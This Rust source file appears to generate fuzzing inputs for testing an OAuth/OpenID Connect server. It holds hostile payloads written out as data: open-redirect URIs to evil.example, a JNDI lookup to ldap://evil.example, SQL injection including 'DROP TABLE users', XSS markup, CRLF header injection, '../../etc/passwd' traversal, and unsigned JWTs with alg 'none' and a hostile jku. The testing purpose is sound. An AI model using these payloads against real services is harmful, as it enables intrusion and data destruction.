//! Values that somebody may send who means harm, or means well and is confused.

use base64::{Engine, engine::general_purpose::URL_SAFE_NO_PAD};
use serde_json::{Value, json};

use super::dice::Dice;

pub const METHODS: [&str; 9] = ["GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "BREW"];
pub const CONTENT_TYPES: [&str; 8] = [
    "",
    "application/json",
    "text/plain",
    "multipart/form-data; boundary=x",
    "application/x-www-form-urlencoded; charset=utf-16",
    "application/x-www-form-urlencodedx",
    "APPLICATION/X-WWW-FORM-URLENCODED",
    "application/x-www-form-urlencoded, text/plain",
];
/// Parameters that some endpoint understands.
pub const NAMES: [&str; 42] = [
    "response_type",
    "client_id",
    "redirect_uri",
    "scope",
    "state",
    "nonce",
    "code_challenge",
    "code_challenge_method",
    "response_mode",
    "prompt",
    "max_age",
    "id_token_hint",
    "login_hint",
    "acr_values",
    "claims",
    "resource",
    "request",
    "request_uri",
    "registration",
    "code",
    "code_verifier",
    "grant_type",
    "refresh_token",
    "client_secret",
    "token",
    "token_type_hint",
    "access_token",
    "client_assertion",
    "client_assertion_type",
    "form_token",
    "email",
    "password",
    "name",
    "decision",
    "post_logout_redirect_uri",
    "audience",
    "user_code",
    "device_code",
    "iss",
    "__proto__",
    "",
    "\0",
];
pub const WORDS: [&str; 34] = [
    "none",
    "login",
    "none login",
    "consent",
    "create",
    "select_account",
    "code",
    "token",
    "code id_token",
    "query",
    "form_post",
    "fragment",
    "jwt",
    "S256",
    "plain",
    "openid",
    "openid openid",
    "offline_access",
    "tasks:write admin",
    "authorization_code",
    "refresh_token",
    "client_credentials",
    "password",
    "implicit",
    "urn:ietf:params:oauth:grant-type:device_code",
    "urn:ietf:params:oauth:client-assertion-type:jwt-bearer",
    "web",
    "other",
    "shop",
    "spa",
    "robot",
    "nobody",
    "allow",
    "deny",
];
/// `//e`, `/\e` and their like; some are registered, for another client or another purpose.
pub const PLACES: [&str; 22] = [
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/%09/evil.example",
    "javascript:alert(1)",
    "data:text/html,evil",
    "https://web.example@evil.example/cb",
    "https://web.example.evil.example/cb",
    "https://evil.example/https://web.example/cb",
    "https://web.example/cb/../evil",
    "https://web.example/cb?evil=1",
    "https://web.example/cb#evil",
    "https://web.example/bye",
    "https://other.example/cb",
    "https://other.example/bye",
    "https://WEB.example/cb",
    "http://web.example/cb",
    "https://web.example:443/cb",
    "https://web.example/cb\r\nX-Evil: 1",
    "http://127.0.0.1:9/cb",
    "about:blank",
    "https://[::1",
];
pub const NUMBERS: [&str; 12] = [
    "0",
    "-1",
    "1.5",
    "1e9",
    "4294967295",
    "4294967296",
    "9223372036854775807",
    "18446744073709551616",
    "\u{0661}",
    "+5",
    "NaN",
    " 7",
];
/// Text that something on its way might not take for text. `MARKUP` must never be on a page as it is.
pub const MARKUP: &str = "\"><i id=evil>'&lt;";
pub const TEXTS: [&str; 20] = [
    MARKUP,
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "' OR '1'='1",
    "\"; DROP TABLE users; --",
    "%00",
    "%",
    "%zz",
    "%25%30%30",
    "../../etc/passwd",
    "null",
    "true",
    "[]",
    "{}",
    "\u{202e}gnirts",
    "e\u{301}\u{301}\u{301}",
    "\u{fffd}",
    "\u{10ffff}",
    "a\u{a0}b",
    "😀",
];
pub const BYTES: [&[u8]; 12] = [
    b"\0",
    b"a\0b",
    b"\xff",
    b"\xc3\x28",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\xc0\xaf",
    b"\r\nSet-Cookie: evil=1",
    b"\x1b[2J",
    b"\x7f",
    b"\x01\x02\x03",
    b" ",
];

/// What storage, encodings, limits and pages may stumble over, at the end of a value that is good until there.
pub const TAILS: [&[u8]; 4] = [b"\0", b"\xff", "\u{202e}\"><i id=evil>'&lt;".as_bytes(), &[b'x'; 9000]];

/// JSON that is nearly what `claims` should be.
pub fn claims(dice: &mut Dice) -> Vec<u8> {
    if dice.below(6) == 0 {
        return "[".repeat(dice.pick(&[3, 200, 8000])).into_bytes();
    }
    let member = dice.pick(&["userinfo", "id_token", "else", ""]);
    let claim = dice.pick(&["name", "email", "sub", "acr", "auth_time", "\0", "name#de"]);
    json!({ member: { claim: value(dice, 0) }, "id_token": value(dice, 2) }).to_string().into_bytes()
}

pub fn value(dice: &mut Dice, depth: usize) -> Value {
    let text = (dice.pick(&TEXTS)).to_owned();
    match dice.below(if depth > 3 { 5 } else { 8 }) {
        0 => Value::Null,
        1 => json!(dice.below(2) == 0),
        2 => json!(dice.next() as i64),
        3 => json!(1e308),
        4 => json!(text),
        5 => json!([value(dice, depth + 1), value(dice, depth + 1)]),
        6 => json!({ "essential": value(dice, depth + 1), "values": value(dice, depth + 1) }),
        _ => json!({ "essential": true, "value": value(dice, depth + 1), text: null }),
    }
}

/// Something with two dots. Nobody has signed it.
pub fn jwt(dice: &mut Dice) -> String {
    let header = json!({
        "alg": dice.pick(&["none", "RS256", "HS256", "ES256", "", "\0"]),
        "typ": dice.pick(&["JWT", "at+jwt", "logout+jwt"]),
        "kid": value(dice, 3),
        "jku": "https://evil.example/jwks",
        "crit": value(dice, 3),
    });
    let mut claims =
        json!({ "iss": "web", "sub": "web", "aud": value(dice, 2), "exp": 4_000_000_000_u64, "jti": "x" });
    claims[dice.pick(&["iss", "sub", "exp", "iat", "nbf", "jti"])] = match dice.below(3) {
        0 => json!("we\0b"),
        _ => value(dice, 2),
    };
    let part = |value: Value| URL_SAFE_NO_PAD.encode(value.to_string());
    let signature = dice.pick(&["", "AAAA", "!", "A.A"]);
    format!("{}.{}.{signature}", part(header), part(claims))
}
